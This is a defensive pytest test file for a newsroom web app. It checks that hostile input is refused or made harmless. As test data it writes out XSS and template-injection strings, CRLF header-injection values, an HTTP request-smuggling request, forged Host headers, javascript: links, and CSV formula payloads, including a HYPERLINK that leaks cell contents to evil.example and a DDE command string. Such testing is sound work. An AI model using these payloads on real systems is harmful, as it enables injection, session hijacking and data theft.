"""What means harm: text of a wire and of a query, headers, addresses, stolen and guessed keys."""

from __future__ import annotations

import csv
import io
import socket
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from service.actions import people
from service.model import Account, Role, Scope
from tests.desk import DEADLINE, Visitor, busy_desk, desk
from tests.newsroom import TRIP, Entry, newsroom

PASSWORD = "correct horse battery staple"
HUGE = 10 * 10**6  # characters
MARKUP = "\"'><script>alert(1)</script><svg onload=alert(2)>{{7*7}}"
BIDI = "\u202e\u2066\u200f\u061c"  # they turn around what stands beside them
TWO_LENGTHS = (  # RFC 9112, 6.3: what one server reads as the end of a request, another does not
    b"POST / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
    b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
)
HARM = ("<script>alert", "<svg onload", ">49<", *BIDI)


@pytest.fixture(scope="module")
def visitor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visitor]:
    """A desk without users; what is refused changes nothing on it."""
    with busy_desk(tmp_path_factory.mktemp("hostile")) as (_, visitor):
        yield visitor


# ---------------------------------------------------------------- text


@pytest.mark.parametrize(
    "text", [MARKUP, BIDI, "\x00\x1b[31m", "\ud800", "'" * 5000, "(" * 5000, "a*" * 5000]
)
@pytest.mark.parametrize(
    "path",
    [
        "/search?q=",
        "/why?rule=Kim&of=",
        "/?rule=",
        "/rules/new?query=",
        "/silences?matcher=",
        "/handover?since=",
    ],
)
def test_what_is_asked_for_comes_back_harmless(visitor: Visitor, path: str, text: str) -> None:
    address, _, name = path.removesuffix("=").rpartition("&" if "&" in path else "?")
    page = visitor.client.get(address, params={name: text.encode("utf-8", "surrogatepass").decode("latin-1")})
    assert page.status_code < 500
    for harm in HARM:
        assert harm not in page.text


@pytest.mark.slow
@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/rules/try", "query"),
        ("/rules/preview", "query"),
        ("/rules", "query"),
        ("/rules", "name"),
        ("/sources", "url"),
        ("/silences", "comment"),
        ("/people", "name"),
        ("/sign-in", "name"),
    ],
)
def test_a_field_of_ten_megabytes_is_refused_and_not_shown_again_at_length(
    visitor: Visitor, path: str, field: str
) -> None:
    fields = {
        "query": "Reise",
        "name": "n",
        "url": "http://127.0.0.1:1/",
        "matcher": "rule=Kim",
        "lasts": "1h",
    }
    answer = visitor.client.post(path, data=fields | {field: "a" * HUGE})
    assert 413 == answer.status_code
    assert len(answer.text) < 10_000
    assert visitor.get("/healthz").status_code == 200


@pytest.mark.slow
def test_a_headline_of_megabytes_is_cut_on_every_page(tmp_path: Path) -> None:
    endless = replace(TRIP, headline="Kim Jong Un " + "sehr " * 200_000, text="Reise " * 200_000)
    with newsroom(tmp_path) as room:
        room.wire("wire", endless)
        room.add_source("wire")
        room.add_rule("Reise", name="trip")
        room.poll()
        with desk(room) as visitor:
            for path in ("/", "/search", "/rules/trip", "/wall", "/handover"):
                assert len(visitor.get(path).text) < 60_000, path


@pytest.mark.slow
def test_a_name_that_means_harm_is_refused_or_harmless(tmp_path: Path) -> None:
    with busy_desk(tmp_path) as (room, visitor):
        visitor.post("/rules", query="Reise", name=MARKUP[:60], channels="desk")
        assert visitor.post("/rules", query="Reise", name=BIDI, channels="desk").status_code == 422
        room.add_source(MARKUP + BIDI)
        for path in ("/", "/rules", "/sources", "/silences", "/search", "/wall"):
            page = visitor.get(path).text
            for harm in HARM:
                assert harm not in page, (path, harm)


@pytest.mark.slow
def test_a_table_of_hits_is_no_spreadsheet_program(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Kim Jong Un")'
    with newsroom(tmp_path) as room:
        room.wire("wire", Entry("evil", formula, "@SUM(1+1) Kim Jong Un auf Reise", "=cmd|' /C calc'!A0"))
        room.add_source("wire")
        room.add_rule("Reise", name="trip")
        room.poll()
        with desk(room) as visitor:
            table = visitor.get("/rules/trip/hits.csv").text.removeprefix("\ufeff")
    [_, row] = csv.reader(io.StringIO(table))
    assert f"'{formula}" in row
    assert not any(cell.startswith(("=", "@", "+", "-")) for cell in row)


# ---------------------------------------------------------------- headers and addresses


def raw(visitor: Visitor, request: bytes) -> bytes:
    """What the server says to bytes that no client would send."""
    address = urlsplit(visitor.url)
    answer = b""
    with (
        socket.create_connection((address.hostname, address.port or 0), timeout=DEADLINE) as connection,
        suppress(ConnectionError),  # it need not read to the end what it will not answer
    ):
        connection.sendall(request + b"\r\n")
        while part := connection.recv(65536):
            answer += part
    return answer


@pytest.mark.parametrize(
    "request_",
    [
        b"GET / HTTP/1.1\r\nConnection: close\r\nHost: evil.example\r\nX-Forwarded-Host: localhost\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: localhost\r\nX: a\rSet-Cookie: session=x\r\n\r\n",
        b"GET /sign-in?next=/%0d%0aSet-Cookie:session=x HTTP/1.1\r\nHost: localhost\r\n\r\n",
        TWO_LENGTHS,
        b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"X: " + b"a" * 200_000 + b"\r\n\r\n",
        b"GET /?" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    ],
)
def test_a_forged_request_gets_no_cookie_and_no_page(visitor: Visitor, request_: bytes) -> None:
    answer = raw(visitor, request_)
    assert b"Set-Cookie: session" not in answer
    assert b"<title>Desk" not in answer
    assert visitor.get("/healthz").status_code == 200


@pytest.mark.parametrize("name", ["a\r\nSet-Cookie: session=x", "a\nb", "Ä\u2028ö"])
def test_no_name_becomes_a_header(visitor: Visitor, name: str) -> None:
    for answer in (
        visitor.post("/silences", matcher=f"rule={name}", lasts="1h", comment=name),
        visitor.post(f"/rules/{name}/disable".replace("\r", "%0d").replace("\n", "%0a")),
        visitor.client.get("/sign-in", params={"next": f"/{name}"}),
    ):
        assert "session=x" not in answer.headers.get("set-cookie", "")
        assert "\n" not in answer.headers.get("location", "")


@pytest.mark.slow
def test_a_link_of_another_site_opens_no_page_of_this_one(tmp_path: Path) -> None:
    with newsroom(tmp_path) as room:
        room.wire(
            "wire",
            *(
                Entry(str(number), f"Kim Jong Un auf Reise {number}", "Kim Jong Un ist auf Reise.", link)
                for number, link in enumerate(
                    (
                        "javascript:alert(1)",
                        "data:text/html,<script>alert(1)</script>",
                        "vbscript:x",
                        "//evil.example",
                    )
                )
            ),
        )
        room.add_source("wire")
        room.add_rule("Reise", name="trip")
        room.poll()
        with desk(room) as visitor:
            for path in ("/", "/stories/1", "/search", "/rules/trip"):
                page = visitor.get(path).text
                for harm in ('"javascript:', '"data:text', '"vbscript:', 'href="//'):
                    assert harm not in page, (path, harm)


# ---------------------------------------------------------------- keys


@pytest.mark.slow
def test_a_key_opens_nothing_once_its_owner_has_gone_or_changed(tmp_path: Path) -> None:
    with busy_desk(tmp_path) as (room, visitor):
        for name, role in {"anna": Role.ADMIN, "ed": Role.EDITOR}.items():
            people.add(room.app, Account(name=name, role=role), PASSWORD)
        token = people.add_token(room.app, "script", [Scope.READ, Scope.WRITE], user="ed").text
        old = people.add_token(room.app, "old", [Scope.READ], lasts=timedelta(microseconds=1)).text

        def status(key: str, method: str = "GET", path: str = "/api/v1/rules") -> int:
            headers = {"Authorization": f"Bearer {key}", "Accept": "application/json"}
            return visitor.another().client.request(method, path, headers=headers).status_code

        assert (200, 200) == (status(token), status(token, "POST", "/api/v1/stories/1/ack"))
        assert 401 == status(old)
        people.edit(room.app, "ed", role=Role.VIEWER)
        assert (200, 403) == (status(token), status(token, "POST", "/api/v1/stories/1/ack"))
        stolen = visitor.another()
        stolen.sign_in("ed", PASSWORD)
        assert 200 == stolen.get("/rules").status_code
        people.set_password(room.app, "ed", "another horse battery staple")
        assert 303 == stolen.get("/rules").status_code, "a stolen session ends with the password"
        people.remove(room.app, "ed")
        assert 401 == status(token)
        assert 401 == visitor.another().client.get(f"/api/v1/rules?token={token}").status_code


@pytest.mark.slow
def test_many_names_from_one_address_are_guessed_no_further(tmp_path: Path) -> None:
    with newsroom(tmp_path) as room, desk(room) as visitor:
        people.add(room.app, Account(name="anna", role=Role.ADMIN), PASSWORD)
        statuses = [visitor.sign_in(f"name {number}", "guess").status_code for number in range(31)]
        assert [401] * 30 + [429] == statuses
        assert 429 == visitor.sign_in("anna", PASSWORD).status_code


@pytest.mark.slow
def test_a_proxy_that_is_not_trusted_cannot_say_where_somebody_comes_from(tmp_path: Path) -> None:
    """Whoever could would try a password as often as it can write addresses."""
    with newsroom(tmp_path) as room, desk(room) as visitor:
        people.add(room.app, Account(name="anna", role=Role.ADMIN), PASSWORD)
        statuses = [
            visitor.post(
                "/sign-in", headers={"X-Forwarded-For": f"10.0.0.{number}"}, name="anna", password="guess"
            ).status_code
            for number in range(6)
        ]
        assert [401] * 5 + [429] == statuses


@pytest.mark.slow
def test_an_open_page_ends_with_the_right_to_look_at_it(tmp_path: Path) -> None:
    with busy_desk(tmp_path) as (room, visitor), ExitStack() as opened:
        roles = {"anna": Role.ADMIN, "ed": Role.EDITOR, "eve": Role.EDITOR, "vic": Role.VIEWER}
        for name, role in roles.items():
            people.add(room.app, Account(name=name, role=role), PASSWORD)
        pages = {}
        for name in roles:
            reader = visitor.another()
            reader.sign_in(name, PASSWORD)
            pages[name] = opened.enter_context(reader.client.stream("GET", "/live"))
        assert {200} == {page.status_code for page in pages.values()}
        people.set_password(room.app, "ed", "another horse battery staple")
        people.edit(room.app, "eve", role=Role.VIEWER)
        people.remove(room.app, "vic")
        for name in ("ed", "eve", "vic"):
            assert not any("event" in line for line in pages[name].iter_lines()), name
        assert "event: put" in next(line for line in pages["anna"].iter_lines() if "event" in line)
